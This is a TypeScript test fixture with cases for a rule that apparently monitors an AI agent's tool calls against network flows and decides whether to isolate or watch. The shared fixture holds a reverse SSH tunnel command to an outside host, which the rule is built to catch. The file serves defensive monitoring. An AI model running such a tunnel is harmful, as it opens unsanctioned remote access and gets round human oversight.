import { type RuleCase, steady } from '../../core/rule-case.ts'

const outside = '203.0.113.9'
const setUp = { out: [18, 4400], in: [14, 4100] } as const
const typed = { out: [110, 16_000], in: [220, 15_400] } as const
const tunnel = { peer: outside, port: 22, minutes: [setUp, ...steady(4, typed)] }
const call = { from: 0, to: 4, command: 'ssh -fN -R 2222:localhost:22 203.0.113.9', episode: 'ep-17' }

export const cases: readonly RuleCase[] = [
  {
    name: 'the call under way when a tunnel was opened',
    matches: true,
    decision: 'isolate',
    did: { connections: [tunnel], calls: [call] },
  },
  {
    name: 'the call that ended a moment before a flow log’s first second',
    matches: true,
    decision: 'isolate',
    did: { connections: [tunnel], calls: [{ from: -30, command: call.command }] },
  },
  {
    name: 'a call at the opening of ordinary traffic, which makes no case of it',
    matches: true,
    decision: 'none',
    did: {
      connections: [{ peer: '198.51.100.7', port: 443, minutes: [{ out: [20, 3000], in: [40, 60_000] }], ends: true }],
      users: { '198.51.100.7': 60 },
      calls: [{ from: 0, to: 40, tool: 'http', command: 'GET /v1/models' }],
    },
  },
  {
    name: 'a call that opened a quiet stream to a peer of its own: most of an agent’s work is opened by one',
    matches: true,
    decision: 'watch',
    did: {
      connections: [
        {
          peer: '198.51.100.7',
          port: 50_051,
          minutes: [{ out: [12, 1900], in: [12, 5600] }, ...steady(40, { out: [14, 1800], in: [14, 2800] })],
        },
      ],
      names: [{ name: 'stream.example.net', addresses: ['198.51.100.7'] }],
      calls: [{ from: 0, to: 40, tool: 'shell', command: './client --connect stream.example.net:50051' }],
    },
  },
  {
    name: 'calls that ended long before the opening or began after it',
    matches: false,
    decision: 'isolate',
    did: {
      connections: [tunnel],
      calls: [
        { from: -600, to: -120 },
        { from: 90, to: 150 },
      ],
    },
  },
  {
    name: 'calls without any traffic, whatever they say',
    matches: false,
    decision: 'none',
    did: { calls: Array.from({ length: 200 }, (_, at) => ({ ...call, from: at, to: at + 600 })), judgedAt: 20 },
  },
  {
    name: 'a call beside a connection from outside',
    matches: false,
    decision: 'none',
    did: { connections: [{ ...tunnel, by: 'them' }], calls: [call] },
  },
  {
    name: 'a call at the opening to a peer that the operator allows',
    matches: false,
    decision: 'none',
    did: { connections: [tunnel], calls: [call], settings: { allow: { addresses: ['203.0.113.0/24'] } } },
  },
]
